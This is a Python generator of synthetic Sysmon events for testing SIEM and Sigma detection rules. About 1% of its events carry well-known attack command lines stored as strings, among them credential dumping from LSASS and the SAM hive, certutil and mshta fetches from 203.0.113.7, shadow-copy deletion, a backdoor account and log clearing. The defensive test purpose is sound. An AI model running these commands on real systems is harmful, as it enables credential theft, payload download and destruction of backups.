#!/usr/bin/env python3
"""Generates structured Sysmon-like events as flat JSON lines (one event per line), the
shape a SIEM export or Winlogbeat-flattened pipeline gives: Sigma field names at top level
(`EventID`, `Channel`, `Image`, `CommandLine`, ...). Deterministic for a given --seed.

A realistic mix of Sysmon EventIDs (process creation, network, image load, process
access, file, registry, DNS) drawn from benign Windows activity, with about 1 % of
events taken from well-known attack patterns so that rules do fire.

Usage: gen_sysmon.py --events 300000 [--seed 1] > events.jsonl
"""

import argparse
import json
import random
import sys
from datetime import datetime, timedelta, timezone

SYS32 = "C:\\Windows\\System32\\"
BENIGN_PROCS = [
    (SYS32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "svchost.exe", "Host Process for Windows Services"),
    (SYS32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p", "svchost.exe", "Host Process for Windows Services"),
    (SYS32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", "CONHOST.EXE", "Console Window Host"),
    (SYS32 + "backgroundTaskHost.exe", "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountProvider", "backgroundTaskHost.exe", "Background Task Host"),
    (SYS32 + "taskhostw.exe", "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly", "taskhostw.exe", "Host Process for Windows Tasks"),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --field-trial-handle=1234", "chrome.exe", "Google Chrome"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"", "Outlook.exe", "Microsoft Outlook"),
    (SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\scripts\\inventory.ps1", "PowerShell.EXE", "Windows PowerShell"),
    (SYS32 + "cmd.exe", "C:\\Windows\\system32\\cmd.exe /c echo %PATH%", "Cmd.Exe", "Windows Command Processor"),
    (SYS32 + "wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "Wmiprvse.exe", "WMI Provider Host"),
    (SYS32 + "SearchProtocolHost.exe", "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe1_", "SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host"),
    ("C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe", "\"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe\" /c", "MicrosoftEdgeUpdate.exe", "Microsoft Edge Update"),
    (SYS32 + "msiexec.exe", "C:\\Windows\\system32\\msiexec.exe /V", "msiexec.exe", "Windows Installer"),
    (SYS32 + "notepad.exe", "\"C:\\Windows\\system32\\notepad.exe\" C:\\Users\\alice\\Documents\\notes.txt", "NOTEPAD.EXE", "Notepad"),
    ("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "EXPLORER.EXE", "Windows Explorer"),
]
PARENTS = [
    (SYS32 + "services.exe", "C:\\Windows\\system32\\services.exe"),
    ("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"),
    (SYS32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p"),
    (SYS32 + "cmd.exe", "cmd.exe"),
    (SYS32 + "userinit.exe", "C:\\Windows\\system32\\userinit.exe"),
]
# Attack-like process creations (well-known public techniques).
SUSPICIOUS_PROCS = [
    (SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "PowerShell.EXE"),
    (SYS32 + "rundll32.exe", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full", "RUNDLL32.EXE"),
    (SYS32 + "certutil.exe", "certutil.exe -urlcache -split -f http://203.0.113.7/p.exe C:\\Users\\Public\\p.exe", "CertUtil.exe"),
    (SYS32 + "reg.exe", "reg.exe save HKLM\\SAM C:\\Users\\Public\\sam.save", "reg.exe"),
    (SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "VSSADMIN.EXE"),
    (SYS32 + "schtasks.exe", "schtasks.exe /create /sc minute /mo 5 /tn Updater /tr C:\\Users\\Public\\u.exe /ru SYSTEM", "schtasks.exe"),
    (SYS32 + "whoami.exe", "whoami.exe /priv", "whoami.exe"),
    (SYS32 + "net.exe", "net.exe user backdoor P@ssw0rd! /add", "net.exe"),
    (SYS32 + "mshta.exe", "mshta.exe javascript:a=GetObject(\"script:http://203.0.113.7/x.sct\").Exec();close();", "MSHTA.EXE"),
    (SYS32 + "wevtutil.exe", "wevtutil.exe cl Security", "wevtutil.exe"),
]
DLLS = ["ntdll.dll", "kernel32.dll", "KernelBase.dll", "user32.dll", "advapi32.dll", "combase.dll",
        "ole32.dll", "crypt32.dll", "ws2_32.dll", "bcrypt.dll", "sechost.dll", "rpcrt4.dll"]
SUSPICIOUS_DLLS = ["C:\\Users\\Public\\dbghelp.dll", SYS32 + "vaultcli.dll", SYS32 + "samlib.dll"]
DOMAINS = ["www.microsoft.com", "login.microsoftonline.com", "update.googleapis.com", "outlook.office365.com",
           "ctldl.windowsupdate.com", "intranet.example.net", "fileshare.example.net"]
SUSPICIOUS_DOMAINS = ["raw.githubusercontent.com", "pastebin.com", "transfer.sh", "ngrok.io"]
REG_KEYS = ["HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Installer\\UserData",
            "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming",
            "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-18",
            "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs"]
SUSPICIOUS_REG = ["HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
                  "HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential"]
FILES = ["C:\\Users\\alice\\AppData\\Local\\Temp\\~DF1A2B.tmp", "C:\\Windows\\Prefetch\\CHROME.EXE-1A2B3C4D.pf",
         "C:\\Users\\alice\\Documents\\report-q3.docx", "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\mpcache.bin"]
SUSPICIOUS_FILES = ["C:\\Users\\Public\\p.exe", "C:\\Windows\\Temp\\lsass.dmp", "C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.vbs"]
USERS = ["CORP\\alice", "CORP\\bob", "NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\NETWORK SERVICE", "CORP\\svc-backup"]
HOSTS = ["WS-0101.corp.example.net", "WS-0102.corp.example.net", "SRV-DC01.corp.example.net", "SRV-FS02.corp.example.net"]

# Sigma logsource of each Sysmon EventID, written into every event (`product`, `service`,
# `category`) so that an engine that routes by event fields (rsigma --logsource-routing)
# can prune rules the way vigie does from Channel + EventID.
CATEGORY = {1: "process_creation", 3: "network_connection", 5: "process_termination", 7: "image_load",
            10: "process_access", 11: "file_event", 12: "registry_add", 13: "registry_set", 22: "dns_query"}

MIX = [(1, 30), (3, 15), (7, 18), (10, 5), (11, 10), (12, 6), (13, 6), (22, 8), (5, 2)]


def guid(r):
    return "{%08X-%04X-%04X-%04X-%012X}" % (r.getrandbits(32), r.getrandbits(16), r.getrandbits(16),
                                            r.getrandbits(16), r.getrandbits(48))


def hashes(r):
    return "SHA1=%040X,MD5=%032X,SHA256=%064X,IMPHASH=%032X" % (
        r.getrandbits(160), r.getrandbits(128), r.getrandbits(256), r.getrandbits(128))


def event(r, i, t):
    eid = r.choices([m[0] for m in MIX], weights=[m[1] for m in MIX])[0]
    bad = r.random() < 0.01
    host = r.choice(HOSTS)
    e = {
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Provider_Name": "Microsoft-Windows-Sysmon",
        "EventID": eid,
        "product": "windows",
        "service": "sysmon",
        "category": CATEGORY[eid],
        "Computer": host,
        "EventRecordID": i + 1,
        "UtcTime": t.strftime("%Y-%m-%d %H:%M:%S.") + "%03d" % (t.microsecond // 1000),
        "ProcessGuid": guid(r),
        "ProcessId": r.randrange(200, 20000),
    }
    img, cmd, ofn, desc = r.choice(BENIGN_PROCS)
    e["Image"] = img
    if eid == 1:
        if bad:
            img, cmd, ofn = r.choice(SUSPICIOUS_PROCS)
            desc = "-"
            e["Image"] = img
        pimg, pcmd = r.choices(PARENTS, weights=[40, 40, 15, 4, 1])[0]
        e.update({
            "FileVersion": "10.0.19041.1 (WinBuild.160101.0800)", "Description": desc,
            "Product": "Microsoft® Windows® Operating System", "Company": "Microsoft Corporation",
            "OriginalFileName": ofn, "CommandLine": cmd, "CurrentDirectory": "C:\\Windows\\system32\\",
            "User": r.choice(USERS), "LogonGuid": guid(r), "LogonId": "0x%x" % r.getrandbits(24),
            "TerminalSessionId": r.randrange(0, 3), "IntegrityLevel": r.choice(["Medium", "High", "System"]),
            "Hashes": hashes(r), "ParentProcessGuid": guid(r), "ParentProcessId": r.randrange(200, 20000),
            "ParentImage": pimg, "ParentCommandLine": pcmd, "ParentUser": r.choice(USERS),
        })
    elif eid == 3:
        e.update({
            "User": r.choice(USERS), "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false",
            "SourceIp": "10.1.%d.%d" % (r.randrange(256), r.randrange(1, 255)), "SourceHostname": host,
            "SourcePort": r.randrange(49152, 65535), "DestinationIsIpv6": "false",
            "DestinationIp": ("203.0.113.%d" if bad else "52.%d.%d.%d") % ((r.randrange(256),) if bad else (r.randrange(256), r.randrange(256), r.randrange(256))),
            "DestinationHostname": r.choice(SUSPICIOUS_DOMAINS if bad else DOMAINS),
            "DestinationPort": r.choice([4444, 8080, 1337]) if bad else r.choice([443, 80, 445, 135]),
        })
    elif eid == 7:
        loaded = r.choice(SUSPICIOUS_DLLS) if bad else SYS32 + r.choice(DLLS)
        e.update({
            "ImageLoaded": loaded, "FileVersion": "10.0.19041.1", "Description": "-",
            "Product": "Microsoft® Windows® Operating System", "Company": "Microsoft Corporation",
            "OriginalFileName": loaded.rsplit("\\", 1)[-1], "Hashes": hashes(r),
            "Signed": "true", "Signature": "Microsoft Windows", "SignatureStatus": "Valid",
            "User": r.choice(USERS),
        })
    elif eid == 10:
        target = SYS32 + "lsass.exe" if bad else r.choice(BENIGN_PROCS)[0]
        e.pop("Image")
        e.update({
            "SourceProcessGUID": guid(r), "SourceProcessId": r.randrange(200, 20000),
            "SourceThreadId": r.randrange(200, 20000), "SourceImage": img,
            "TargetProcessGUID": guid(r), "TargetProcessId": r.randrange(200, 20000),
            "TargetImage": target, "GrantedAccess": "0x1010" if bad else r.choice(["0x1000", "0x1400", "0x101000"]),
            "CallTrace": SYS32 + "ntdll.dll+9d4c4|" + SYS32 + "KERNELBASE.dll+2c13e|UNKNOWN(00000000)",
            "SourceUser": r.choice(USERS), "TargetUser": "NT AUTHORITY\\SYSTEM",
        })
    elif eid == 11:
        e.update({
            "TargetFilename": r.choice(SUSPICIOUS_FILES if bad else FILES),
            "CreationUtcTime": e["UtcTime"], "User": r.choice(USERS),
        })
    elif eid in (12, 13):
        e.update({
            "EventType": "SetValue" if eid == 13 else r.choice(["CreateKey", "DeleteKey"]),
            "TargetObject": r.choice(SUSPICIOUS_REG if bad else REG_KEYS),
            "User": r.choice(USERS),
        })
        if eid == 13:
            e["Details"] = "C:\\Users\\Public\\u.exe" if bad else "DWORD (0x00000001)"
    elif eid == 22:
        e.update({
            "QueryName": r.choice(SUSPICIOUS_DOMAINS if bad else DOMAINS), "QueryStatus": "0",
            "QueryResults": "type:  5 edge.example.net;::ffff:52.1.2.3;", "User": r.choice(USERS),
        })
    elif eid == 5:
        e["User"] = r.choice(USERS)
    return e


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--events", type=int, default=300000)
    ap.add_argument("--seed", type=int, default=1)
    a = ap.parse_args()
    r = random.Random(a.seed)
    t = datetime(2026, 5, 4, 8, 0, 0, tzinfo=timezone.utc)
    out = sys.stdout
    for i in range(a.events):
        t += timedelta(milliseconds=r.randrange(1, 40))
        out.write(json.dumps(event(r, i, t), separators=(",", ":")))
        out.write("\n")


if __name__ == "__main__":
    main()
